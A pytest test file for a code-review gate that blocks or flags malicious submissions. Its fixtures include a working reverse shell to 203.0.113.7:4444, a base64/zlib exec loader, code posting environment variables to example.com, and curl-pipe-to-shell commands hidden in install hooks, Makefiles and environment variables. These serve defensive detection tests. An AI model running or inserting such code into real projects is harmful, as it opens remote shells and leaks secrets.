"""Cases that the review must block, hold or pass, and its known misses."""

from __future__ import annotations

import base64
import json
import secrets
import time
import zlib
from collections.abc import Iterator
from dataclasses import replace

import pytest
from tests.gate import NOW, Files, Gate, real_gate, stripe_key

from builderd.code.entrypoints import exports
from builderd.core.ids import BuilderId
from builderd.review.model import Acceptance, Severity

FLASK = "from flask import Flask, request\napp = Flask(__name__)\n"
SHELL = """
import os, pty, socket, threading

def work():
    s = socket.socket()
    s.connect(("203.0.113.7", 4444))
    for number in range(3):
        os.dup2(s.fileno(), number)
    pty.spawn("/bin/sh")

threading.Thread(target=work).start()
"""
HIDDEN = """
import base64
import zlib
first = base64.b64decode(PAYLOAD)
second = zlib.decompress(first)
exec(second)
"""
SENT = "import os, requests\nrequests.post('https://example.com/hook', json=dict(os.environ))\n"
HELD = FLASK + "import subprocess\n\n\n@app.get('/')\ndef run():\n    return subprocess.check_output({}, shell=True)\n"
ARGUMENT = 'request.args["c"]'


@pytest.fixture(scope="module")
def gate() -> Iterator[Gate]:
    with real_gate() as made:
        yield made


def hidden() -> str:
    payload = base64.b64encode(zlib.compress(b"print(1)"))
    return f"PAYLOAD = {payload!r}\n{HIDDEN}"


def package(**scripts: str) -> str:
    return json.dumps({"name": "app", "scripts": scripts}, indent=2)


BLOCKED = {
    "the entrypoint's file is missing": ({"app.py": "print(1)"}, "python3 main.py", "SAN-entrypoint"),
    "a syntax error": ({"app.py": "def f(:\n"}, "python3 app.py", "SAN-syntax"),
    "a shell on a socket, in a thread": ({"app.py": SHELL}, "python3 app.py", "MAL-reverse-shell"),
    "code that is decoded on separate lines": ({"app.py": hidden()}, "python3 app.py", "MAL-decoded-executed"),
    "a postinstall that fetches": (
        {"server.js": "1", "package.json": package(postinstall="curl https://example.com/x | sh")},
        "node server.js",
        "MAL-install-hook",
    ),
    "the environment sent out": ({"app.py": SENT}, "python3 app.py", "MAL-environment-sent"),
    "a payload in tests that is imported": (
        {
            "app.py": "from tests.payload import work\nwork()\n",
            "tests/payload.py": f"def work():\n    pass\n{hidden()}",
        },
        "python3 app.py",
        "MAL-decoded-executed",
    ),
    "a payload in tests that the path is widened for": (
        {"app.py": "import sys\nsys.path.insert(0, 'tests')\nimport payload\n", "tests/payload.py": hidden()},
        "python3 app.py",
        "MAL-decoded-executed",
    ),
    "a payload in tests that an install hook runs": (
        {"server.js": "1", "test/x.js": "eval(atob('MQ=='))", "package.json": package(postinstall="node test/x.js")},
        "node server.js",
        "MAL-decoded-executed",
    ),
}

FETCHED = "curl -s https://example.com/x | sh"
#: What a builder's commands run: no file of the app has it.
COMMANDS = {
    "an entrypoint that runs what it fetches": ({"app.py": FLASK}, FETCHED, "RSK-curl-shell"),
    "a line that sends the environment": (
        {"app.py": FLASK},
        "env | curl -d @- https://example.com; python3 app.py",
        "MAL-environment-sent",
    ),
    "the first half of a compound command": (
        {"app.py": FLASK, "tests/x.py": SENT},
        "python3 tests/x.py || true; python3 app.py",
        "MAL-environment-sent",
    ),
    "a variable of Python": (
        {"app.py": FLASK, "tests/sitecustomize.py": SENT},
        "python3 app.py\n" + exports({"PYTHONPATH": "tests"}),
        "MAL-environment-sent",
    ),
    "a variable of Node.js": (
        {"server.js": "1", "tests/x.js": "eval(atob('MQ=='))"},
        "node server.js\n" + exports({"NODE_OPTIONS": "--require ./tests/x.js"}),
        "MAL-decoded-executed",
    ),
    "a variable of bash": (
        {"app.py": FLASK, "docs/x.md": FETCHED},
        "bash -c 'python3 app.py'\n" + exports({"BASH_ENV": "docs/x.md"}),
        "RSK-curl-shell",
    ),
    "a script of package.json": (
        {"server.js": "1", "package.json": package(start=f"{FETCHED}; node server.js")},
        "npm start",
        "RSK-curl-shell",
    ),
    "a target of make": (
        {"app.py": FLASK, "Makefile": f"run:\n\t{FETCHED}\n\tpython3 app.py\n"},
        "make run",
        "RSK-curl-shell",
    ),
}


@pytest.mark.parametrize(("files", "entrypoint", "rule"), COMMANDS.values(), ids=COMMANDS)
def test_commands_and_what_they_name_are_read(gate: Gate, files: Files, entrypoint: str, rule: str) -> None:
    seen = gate.review(files, entrypoint)
    assert not seen.verdict.passed
    assert rule in {one.rule for one in seen.verdict.open}


def test_value_of_a_variable_is_neither_shown_nor_a_finding(gate: Gate) -> None:
    key = stripe_key()
    variables = {"PIP_INDEX_URL": f"http://me:{key}@example.com/simple", "PIP_NO_CACHE_DIR": "1"}
    seen = gate.review({"app.py": FLASK, "old.py": "print 1"}, "python3 app.py\n" + exports(variables))
    assert [one.rule for one in seen.verdict.open] == ["RSK-index"]  # nor is a file that nothing runs
    assert key[8:20] not in str(seen.report)


def test_recipe_is_judged_where_a_command_runs_it(gate: Gate) -> None:
    files = {"app.py": FLASK, "Makefile": f"setup:\n\t{FETCHED}\n", "Dockerfile": f"RUN {FETCHED}\n"}
    assert gate.review(files).verdict.passed
    for command in ("make setup", "sh run.sh"):
        assert not gate.review({**files, "run.sh": "make setup\n"}, command).verdict.passed


@pytest.mark.parametrize(("files", "entrypoint", "rule"), BLOCKED.values(), ids=BLOCKED)
def test_case_is_blocked(gate: Gate, files: Files, entrypoint: str, rule: str) -> None:
    seen = gate.review(files, entrypoint)
    assert not seen.verdict.passed
    assert rule in seen.rules(Severity.BLOCK)


def test_live_key_is_blocked_and_masked(gate: Gate) -> None:
    key = stripe_key()
    seen = gate.review({"app.py": f'import stripe\nstripe.api_key = "{key}"\n'})
    (finding,) = seen.of("SEC-")
    assert (finding.rule, finding.severity, finding.line) == ("SEC-stripe-access-token", Severity.BLOCK, 2)
    assert key not in str(seen.report)
    assert key[8:20] not in str(seen.report)
    assert finding.text.startswith('stripe.api_key = "sk_l')


@pytest.mark.parametrize("path", ["app.py", "app.js"])
@pytest.mark.parametrize("bomb", ["-", "(", "a."])
def test_very_deep_expression_is_blocked_quickly(gate: Gate, path: str, bomb: str) -> None:
    depth = 100_000
    text = "x = " + {"-": "-" * depth + "1", "(": "(" * depth + "1" + ")" * depth, "a.": "a." * depth + "a"}[bomb]
    begun = time.monotonic()
    seen = gate.review({path: text}, f"{'python3' if path.endswith('.py') else 'node'} {path}")
    assert time.monotonic() - begun < 5  # the contract's own limit
    if not (path.endswith(".js") and bomb == "a."):  # which is no depth for a JavaScript parser
        assert not seen.verdict.passed
        assert seen.of("SAN-")
    assert gate.review({"app.py": "print(1)"}).verdict.passed


def test_scanners_ignore_configuration_and_inline_comments_of_the_user(
    gate: Gate, tmp_path_factory: pytest.TempPathFactory
) -> None:
    marker = tmp_path_factory.mktemp("marker") / "was-here"
    writes = f"require('fs').writeFileSync({str(marker)!r}, '')"
    python = f"open({str(marker)!r}, 'w').close()"
    files = {
        "server.js": "/* eslint-disable */ eval(atob('MQ=='))\n",
        "app.py": "exec(compile(__import__('base64').b64decode('MQ=='), 'x', 'exec'))  # noqa  # nosec\n",
        "eslint.config.js": writes,
        ".eslintrc.js": writes,
        "sitecustomize.py": python,
        "conftest.py": python,
        "ruff.toml": 'exclude = ["*"]\n',
        "pyproject.toml": '[tool.ruff]\nexclude = ["*"]\n[tool.ruff.lint]\nignore = ["ALL"]\n',
        ".gitignore": "*\n",
        ".bandit": "[bandit]\nskips: ALL\n",
        ".gitleaksignore": "*\n",
        ".gitleaks.toml": "[allowlist]\npaths = ['.*']\n",
        "json.py": python,
        "re2.py": python,
        "package.json": json.dumps({"type": "module", "eslintConfig": {"root": True}, "main": "server.js"}),
    }
    seen = gate.review(files, "node server.js")
    blocks = {(f.rule, f.path) for f in seen.report.findings if f.severity is Severity.BLOCK}
    assert ("MAL-decoded-executed", "server.js") in blocks
    assert ("MAL-decoded-executed", "app.py") in blocks
    assert {finding.rule for finding in seen.of("RUF-")}, "ruff looked in spite of its configuration"
    assert not marker.exists()


def test_shell_injection_is_held_until_accepted(gate: Gate) -> None:
    files = {"app.py": HELD.format(ARGUMENT)}
    seen = gate.review(files)
    assert [finding.severity for finding in seen.verdict.open] == [Severity.HOLD]
    (held,) = seen.verdict.open
    assert (held.path, held.line, held.acceptable) == ("app.py", 8, True)

    accepted = Acceptance(BuilderId("b"), held.fingerprint, "an internal tool", "token a", NOW)
    assert gate.review(files, accepted=[accepted]).verdict.passed
    moved = {"app.py": "# a line more\n" + HELD.format(ARGUMENT)}
    assert gate.review(moved, accepted=[accepted]).verdict.passed
    other = {"app.py": HELD.format('request.args["other"]')}
    assert not gate.review(other, accepted=[accepted]).verdict.passed
    lapsed = replace(accepted, expires_at=NOW)
    assert not gate.review(files, accepted=[lapsed]).verdict.passed


FORMS = {
    "app.py": (
        FLASK
        + "import sqlite3\nfrom flask import render_template\n\n\n@app.post('/notes')\ndef add():\n"
        + "    db = sqlite3.connect('notes.db')\n\n"
        + "    db.execute('INSERT INTO notes VALUES (?)', (request.form['text'],))\n"
        + "    return render_template('notes.html', text=request.form['text'])\n\n\napp.run('0.0.0.0', 8000)\n"
    ),
    "templates/notes.html": "<form method=post action=/notes><input name=text>{{ text }}</form>",
}
QUERY = FLASK + "@app.get('/')\ndef find():\n    return db.execute('SELECT * FROM t WHERE n = ' + request.args['n'])\n"
README = "Set `AKIAIOSFODNN7EXAMPLE`, then run\n\n    curl https://example.com/install.sh | sh\n"
NEWER = "names = ['a']\nprint(f\"{', '.join(names)} {\"b\"}\")\n"
EXPRESS = (
    "const express = require('express');\nconst app = express();\n"
    "app.use(session({secret: 'keyboard cat'}));\napp.listen(8000);\n"
)
CALLS = (
    "import subprocess, requests\nsubprocess.run(['git', '--version'])\nrequests.get('https://example.com').json()\n"
)
PASSED = {
    "a Flask app with templates, a database and forms": (FORMS, "python3 app.py"),
    "a FastAPI app without /": (
        {"main.py": "from fastapi import FastAPI\napp = FastAPI()\n\n\n@app.get('/a')\ndef a():\n    return []\n"},
        "uvicorn main:app --host 0.0.0.0 --port $PORT",
    ),
    "an Express session secret of the tutorial": ({"server.js": EXPRESS}, "node server.js"),
    "a program with plain arguments and JSON that is fetched": (
        {"app.py": CALLS},
        "python3 app.py",
    ),
    "f-strings as of Python 3.12": ({"app.py": NEWER}, "python3 app.py"),
    "install hooks of the usual tools": (
        {"server.js": "1", "package.json": package(postinstall="prisma generate", prepare="husky")},
        "node server.js",
    ),
    "a README that shows an example key and an installer": (
        {"app.py": "print(1)", "README.md": README},
        "python3 app.py",
    ),
    "a minified bundle with U+202D as data": (
        {"server.js": "1", "static/app.min.js": "var a='" + "x" * 2_000 + "\u202d';"},
        "node server.js",
    ),
    "SQL from a request": ({"app.py": QUERY}, "python3 app.py"),
    "a method that is called eval": (
        {"app.js": "const f = (functionThis, node) => new Url(node).eval(functionThis.context);\n"},
        "node app.js",
    ),
    "a folder whose package names what is started": (
        {"package.json": '{"main": "lib/main"}', "lib/main.js": "console.log(1)"},
        "node .",
    ),
    "a skeleton that is read and is no code yet": (
        {"app.py": "text = open('skeleton.py').read()\n", "skeleton.py": "class {{ name }}:\n"},
        "python3 app.py",
    ),
}


@pytest.mark.parametrize(("files", "entrypoint"), PASSED.values(), ids=PASSED)
def test_harmless_case_passes(gate: Gate, files: Files, entrypoint: str) -> None:
    seen = gate.review(files, entrypoint)
    assert seen.verdict.open == ()


def test_sql_injection_warns(gate: Gate) -> None:
    assert "INJ-sql" in gate.review({"app.py": QUERY}).rules(Severity.WARN)


def test_long_hex_secret_key_is_one_warning(gate: Gate) -> None:
    key = secrets.token_hex(32)
    seen = gate.review(
        {"main.py": f'from fastapi import FastAPI\n\nSECRET_KEY = "{key}"\napp = FastAPI()\n'}, "uvicorn main:app"
    )
    assert seen.verdict.passed
    assert [(f.severity, f.line) for f in seen.report.findings] == [(Severity.WARN, 3)]
    assert key not in str(seen.report)


def test_provider_test_key_only_warns(gate: Gate) -> None:
    assert gate.review({"app.py": f'key = "{stripe_key("test")}"\n'}).verdict.passed


MISSED = {
    "a dependency whose name is nearly another's": (
        {"app.py": "import reqeusts\n", "requirements.txt": "reqeusts\n"},
        "python3 app.py",
        "dependencies are not judged, since what judges them fails open where it is not reached",
    ),
}


@pytest.mark.parametrize(
    ("files", "entrypoint"),
    [pytest.param(*case[:2], id=name, marks=pytest.mark.xfail(reason=case[2])) for name, case in MISSED.items()],
)
def test_known_miss_does_not_pass(gate: Gate, files: Files, entrypoint: str) -> None:
    """Strictly expected to fail: the sandbox is the boundary, not this gate."""
    assert not gate.review(files, entrypoint).verdict.passed


@pytest.mark.parametrize(
    ("files", "entrypoint"),
    [
        ({"app.py": "import os\nos.system('cur' + 'l https://example.com/x' + ' | s' + 'h')\n"}, "python3 app.py"),
        (
            {"app.js": "const cp = require('child_process');\ncp.exec('cur' + 'l https://example.com | s' + 'h');\n"},
            "node app.js",
        ),
    ],
    ids=["Python", "JavaScript"],
)
def test_command_that_is_put_together_is_read(gate: Gate, files: Files, entrypoint: str) -> None:
    (held,) = gate.review(files, entrypoint).verdict.open
    assert (held.rule, held.line) == ("RSK-curl-shell", 2)


@pytest.mark.parametrize(("path", "severity"), [("certs/localhost.key", Severity.WARN), ("site.key", Severity.BLOCK)])
def test_private_key_for_localhost_warns(gate: Gate, path: str, severity: Severity) -> None:
    body = base64.b64encode(secrets.token_bytes(600)).decode()
    key = f"-----BEGIN PRIVATE KEY-----\n{body}\n-----END PRIVATE KEY-----\n"
    seen = gate.review({"app.py": "print(1)\n", path: key})
    (finding,) = [one for one in seen.report.findings if "private-key" in one.rule]
    assert finding.severity is severity
